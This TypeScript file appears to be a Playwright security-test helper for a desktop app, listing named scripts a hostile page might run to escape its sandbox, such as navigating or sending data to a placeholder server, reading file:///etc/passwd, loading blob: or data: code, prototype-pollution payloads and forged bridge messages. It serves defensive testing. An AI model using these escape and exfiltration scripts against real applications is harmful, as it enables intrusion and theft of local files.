import type { Page } from '@playwright/test'

/**
 * Scripts that a hostile page of the app runs to escape, each with a name. `OUT` is replaced by the address of a
 * server on this computer that no page may reach, `UDP` by the port of a second such server. A script returns `refused`
 * if the attempt failed, otherwise a word for its success. The test also looks for requests, windows, downloads and
 * navigations, so it detects a script that wrongly returns `refused`.
 */
type Attempt = readonly [name: string, script: string]

/** Adds an element and waits until it loads, fails, or violates the content security policy. */
const element = (tag: string, set: string): string => `
  const it = document.createElement('${tag}')
  Object.assign(it, ${set})
  return await load(it)`

/** Runs an action, which must throw or reject. */
const mustFail = (action: string): string =>
  `try { return (await within(${action})) === 'refused' ? 'refused' : 'got' } catch { return 'refused' }`

/** Runs an action without a result; the test looks for its effects. */
const act = (action: string): string => `try { ${action} } catch {} return 'refused'`

const navigation: readonly Attempt[] = [
  ['location.href', act("location.href = 'OUT/a'")],
  ['location.assign to a file: URL', act("location.assign('file:///etc/passwd')")],
  ['location.replace with a data: URL', act("location.replace('data:text/html,<h1>x</h1>')")],
  [
    'a javascript: URL',
    `location.href = 'javascript:void(window.ran = 1)'; await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  [
    'a link with target _top',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: 'OUT/b', target: '_top' }); document.body.append(a); a.click()",
    ),
  ],
  [
    'a form with method post',
    act(
      "const f = document.createElement('form'); Object.assign(f, { method: 'post', action: 'OUT/c' }); document.body.append(f); f.submit()",
    ),
  ],
  [
    'a form with target _blank',
    act(
      "const f = document.createElement('form'); Object.assign(f, { action: 'OUT/d', target: '_blank' }); document.body.append(f); f.submit()",
    ),
  ],
  [
    'a meta refresh',
    act(
      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=OUT/e'; document.head.append(m)",
    ),
  ],
  ['navigation.navigate', act("navigation.navigate('OUT/f').finished.catch(() => {})")],
  ['history.pushState to another origin', mustFail("history.pushState({}, '', 'OUT/g')")],
  [
    'a base element',
    `const b = document.createElement('base'); b.href = 'OUT/'; document.head.append(b); return document.baseURI.startsWith('OUT') ? 'moved' : 'refused'`,
  ],
  ['a chrome: URL', act("location.href = 'chrome://gpu'")],
  ['a view-source: URL', act("location.href = 'view-source:OUT/'")],
]

const windows: readonly Attempt[] = [
  ['window.open', act("window.open('OUT/h')")],
  ['window.open without an opener', act("window.open('OUT/i', '_blank', 'noopener,width=1')")],
  ['window.open of a javascript: URL', act("window.open('javascript:opener.ran = 1')")],
  ['document.write into an empty window', act("window.open('')?.document.write('<script src=OUT/j.js></script>')")],
  ['a window of the app with an extra query parameter', act("window.open('/admin/study/7/invoice?next=OUT')")],
  ['window.open of a file: URL', act("window.open('file:///etc/passwd')")],
]

const frames: readonly Attempt[] = [
  ['an iframe of another server', element('iframe', "{ src: 'OUT/k' }")],
  ['an iframe with a file: URL', element('iframe', "{ src: 'file:///etc/passwd' }")],
  ['an iframe with a data: URL', element('iframe', "{ src: 'data:text/html,x' }")],
  [
    'an iframe with a blob: URL',
    element('iframe', "{ src: URL.createObjectURL(new Blob(['x'], { type: 'text/html' })) }"),
  ],
  [
    'an iframe with a script in srcdoc',
    `const it = document.createElement('iframe'); it.srcdoc = '<script>parent.ran = 1</script>'; document.body.append(it); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  [
    'an iframe with a javascript: URL',
    `const it = document.createElement('iframe'); it.src = 'javascript:parent.ran = 1'; document.body.append(it); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  ['an object element', element('object', "{ data: 'OUT/l' }")],
  ['an embed element', element('embed', "{ src: 'OUT/m' }")],
  [
    'a webview element',
    act(
      "const it = document.createElement('webview'); it.setAttribute('src', 'OUT/n'); it.setAttribute('nodeintegration', ''); document.body.append(it)",
    ),
  ],
  [
    'calls to the main process from an iframe',
    `
    const it = document.createElement('iframe'); document.body.append(it); await pause()
    const call = it.contentWindow.__electronStandIn
    if (call === undefined) return 'no way to ask, so nothing was tested'
    const { reply } = await call('invoke', 'atrium:call', [{ kind: 'call', id: 1, command: 'session.current', input: {} }])
    return reply.failure?.code === 'wrong-sender' ? 'refused' : 'answered'`,
  ],
  [
    'events of the main process in an iframe',
    `
    const it = document.createElement('iframe'); document.body.append(it); await pause()
    it.contentWindow.__electronStandIn('send', 'atrium:resume', [{ kind: 'resume', start: null, sequence: 0 }])
    received.length = 0
    await atriumBridge.call('drafts.save', { draftID: 'd-frame', content: 1 })
    await pause()
    return received.length === 1 ? 'refused' : 'sent ' + received.length`,
  ],
]

const code: readonly Attempt[] = [
  ['a script of another server', element('script', "{ src: 'OUT/o.js' }")],
  ['a module of another server', mustFail('import(`OUT/p.js`)')],
  ['a module from a data: URL', mustFail("import('data:text/javascript,export default 1')")],
  [
    'a module from a blob: URL',
    mustFail("import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))"),
  ],
  [
    'a worker from a blob: URL',
    `return await ends(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))`,
  ],
  ['a worker of another server', mustFail("(async () => new Worker('OUT/q.js'))()")],
  ['a shared worker from a data: URL', `return await ends(() => new SharedWorker('data:text/javascript,0'))`],
  [
    'a service worker from a blob: URL',
    mustFail("navigator.serviceWorker.register(URL.createObjectURL(new Blob([''])))"),
  ],
  ['a service worker of another server', mustFail("navigator.serviceWorker.register('OUT/r.js')")],
  [
    'a string of code passed to setTimeout',
    `setTimeout('window.ran = 1', 0); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  [
    'an inline event handler',
    `document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror="window.ran = 1">'); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  ['WebAssembly', mustFail('WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))')],
  [
    'speculation rules',
    `
    const it = document.createElement('script'); it.type = 'speculationrules'
    it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['OUT/s'] }] })
    document.head.append(it); await pause(); return 'refused'`,
  ],
]

const network: readonly Attempt[] = [
  ['fetch from another server', mustFail("fetch('OUT/t', { mode: 'no-cors' })")],
  ['fetch of a file: URL', mustFail("fetch('file:///etc/passwd')")],
  [
    'XMLHttpRequest',
    `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('loaded'); it.onerror = () => done('refused'); try { it.open('GET', 'OUT/u'); it.send() } catch { done('refused') } })`,
  ],
  ['navigator.sendBeacon', act("navigator.sendBeacon('OUT/v', 'x')")],
  ['WebSocket', `return await ends(() => new WebSocket('OUT/w'.replace('http', 'ws')), 'onopen')`],
  ['EventSource', `return await ends(() => new EventSource('OUT/x'), 'onopen')`],
  ['an image of another server', element('img', "{ src: 'OUT/y.png' }")],
  ['a style sheet of another server', element('link', "{ rel: 'stylesheet', href: 'OUT/z.css' }")],
  ['a font of another server', mustFail("new FontFace('x', 'url(OUT/1.woff2)').load()")],
  ['a video of another server', element('video', "{ src: 'OUT/2.mp4' }")],
  [
    'a link with a ping attribute',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: '#x', ping: 'OUT/3' }); document.body.append(a); a.click()",
    ),
  ],
  [
    'RTCPeerConnection',
    `
    if (window.RTCPeerConnection === undefined) return 'refused'
    const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] })
    it.createDataChannel('x')
    await it.setLocalDescription(await it.createOffer()).catch(() => undefined)
    await pause(); await pause(); it.close(); return 'refused'`,
  ],
]

const abilities: readonly Attempt[] = [
  [
    'geolocation',
    `return await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('got'), () => done('refused')))`,
  ],
  ['the camera', mustFail('navigator.mediaDevices.getUserMedia({ video: true })')],
  ['the screen', mustFail('navigator.mediaDevices.getDisplayMedia()')],
  ['the clipboard', mustFail('navigator.clipboard.readText()')],
  ['a notification', `return await Notification.requestPermission() === 'granted' ? 'got' : 'refused'`],
  ['a USB device', mustFail('navigator.usb.requestDevice({ filters: [] })')],
  ['a serial port', mustFail('navigator.serial.requestPort()')],
  [
    'PaymentRequest',
    mustFail(
      "new PaymentRequest([{ supportedMethods: 'OUT' }], { total: { label: 'x', amount: { currency: 'CAD', value: '1' } } }).show()",
    ),
  ],
  [
    'a download from another server',
    act("const a = document.createElement('a'); Object.assign(a, { href: 'OUT/4', download: 'x' }); a.click()"),
  ],
  [
    'a download of a data: URL',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: 'data:text/plain,x', download: 'x.exe' }); a.click()",
    ),
  ],
  [
    'the globals of Node',
    `return [typeof require, typeof process, typeof module, typeof Buffer].every((kind) => kind === 'undefined') ? 'refused' : 'got'`,
  ],
]

const bridge: readonly Attempt[] = [
  [
    'replacing the bridge',
    `try { window.atriumBridge = {}; atriumBridge.call = () => 'own' } catch {} return Object.isFrozen(atriumBridge) && atriumBridge.call.toString() !== "() => 'own'" ? 'refused' : 'replaced'`,
  ],
  [
    'a command by an inherited name',
    `
    for (const name of ['__proto__', 'constructor', 'toString', 'session.__proto__', 'session.constructor', '__proto__.polluted']) {
      const { failure } = await atriumBridge.call(name, {})
      if (failure?.code !== 'unknown-command') return 'answered ' + name
    }
    return 'refused'`,
  ],
  [
    'call input with a __proto__ key',
    `
    const input = JSON.parse('{"draftID":"d-p","content":1,"__proto__":{"draftID":"d-polluted","polluted":1},"constructor":{"prototype":{"polluted":1}}}')
    received.length = 0
    await atriumBridge.call('drafts.save', input)
    await pause()
    return JSON.stringify(received).includes('polluted') || {}.polluted !== undefined ? 'polluted' : 'refused'`,
  ],
]

/** URLs that an operating system opens in another program. */
const programs: readonly Attempt[] = ['mailto:x@example.invalid', 'ms-settings:privacy', 'atrium://admin'].flatMap(
  (address): Attempt[] => [
    [`window.open of ${address}`, act(`window.open('${address}')`)],
    [`an iframe with ${address}`, element('iframe', `{ src: '${address}' }`)],
    [`location.href to ${address}`, act(`location.href = '${address}'`)],
  ],
)

const forgery: readonly Attempt[] = [
  [
    'a forged event of the main process by postMessage',
    `
    received.length = 0
    window.postMessage({ kind: 'event', name: 'members.changed', payload: {}, sequence: 9e9, start: 'x' }, '*')
    await pause(); return received.length === 0 ? 'refused' : 'received'`,
  ],
  [
    'an Object.prototype that the page changed',
    `
    Object.defineProperty(Object.prototype, 'polluted', { value: 1, configurable: true, enumerable: true, writable: true })
    received.length = 0
    await atriumBridge.call('drafts.save', { draftID: 'd-q', content: 1 })
    await pause()
    delete Object.prototype.polluted
    return Object.hasOwn(received[0][1], 'polluted') ? 'polluted' : 'refused'`,
  ],
]

/** Attempts by drag and drop. The test drops on the page the file or link that follows the word `DROP`. */
const drops: readonly Attempt[] = [
  ['a dropped link', 'DROP OUT/dropped'],
  ['a dropped file', 'DROP /etc/passwd'],
]

/** Every attempt. */
export const attempts: readonly Attempt[] = [
  ...programs,
  ...forgery,
  ...drops,
  ...navigation,
  ...windows,
  ...frames,
  ...code,
  ...network,
  ...abilities,
  ...bridge,
]

/**
 * Attempts that are refused even on a page without protection, because this Chromium refuses them itself or lacks the
 * feature. Their refusal proves nothing about the product, so the test tries them but does not count them.
 */
export const unprovable: ReadonlySet<string> = new Set([
  'window.open of mailto:x@example.invalid',
  'an iframe with mailto:x@example.invalid',
  'location.href to mailto:x@example.invalid',
  'window.open of ms-settings:privacy',
  'an iframe with ms-settings:privacy',
  'location.href to ms-settings:privacy',
  'window.open of atrium://admin',
  'an iframe with atrium://admin',
  'location.href to atrium://admin',
  'location.assign to a file: URL',
  'location.replace with a data: URL',
  'history.pushState to another origin',
  'a chrome: URL',
  'a view-source: URL',
  'window.open of a javascript: URL',
  'window.open of a file: URL',
  'an iframe with a file: URL',
  'a webview element',
  'a worker of another server',
  'a shared worker from a data: URL',
  'a service worker from a blob: URL',
  'a service worker of another server',
  'fetch of a file: URL',
  'the camera',
  'the screen',
  'a USB device',
  'a serial port',
])

/** The attempts whose refusal proves that the product refuses them. */
export const provable: readonly Attempt[] = attempts.filter(([name]) => !unprovable.has(name))

/** Functions for the scripts. */
const helpers = `
  const pause = () => new Promise((done) => setTimeout(done, 150))
  const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1500, 'refused'))])
  const load = (it) => within(new Promise((done) => {
    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true })
    it.onload = it.onloadeddata = () => done('loaded')
    it.onerror = () => done('refused')
    document.body.append(it)
  }))
  const ends = (make, event = 'onmessage') => within(new Promise((done) => {
    try {
      const it = make()
      it[event] = () => done('got')
      it.onerror = () => done('refused')
    } catch { done('refused') }
  }))
`

/**
 * Performs an attempt on a page and returns its result. A navigation may end the script without a result, whether it is
 * refused or not; then returns `refused`. Throws any other error, because a script that cannot run proves nothing.
 */
export const perform = async (page: Page, script: string): Promise<unknown> => {
  const [, dropped] = /^DROP (.+)$/.exec(script) ?? []
  if (dropped !== undefined) return await drop(page, dropped)
  return await page.evaluate(`(async () => { ${helpers} ${script} })()`).catch((error: Error) => {
    if (/context was destroyed|navigation|Cannot find context/i.test(error.message)) return 'refused'
    throw error
  })
}

/** Drops a file or a link on a page, as a user does. */
const drop = async (page: Page, dropped: string): Promise<string> => {
  const session = await page.context().newCDPSession(page)
  const isFile = dropped.startsWith('/')
  const data = {
    items: isFile ? [] : [{ mimeType: 'text/uri-list', data: dropped }],
    ...(isFile && { files: [dropped] }),
    dragOperationsMask: 1,
  }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', { type, x: 200, y: 200, data })
  }
  await session.detach().catch(() => undefined)
  return 'refused'
}
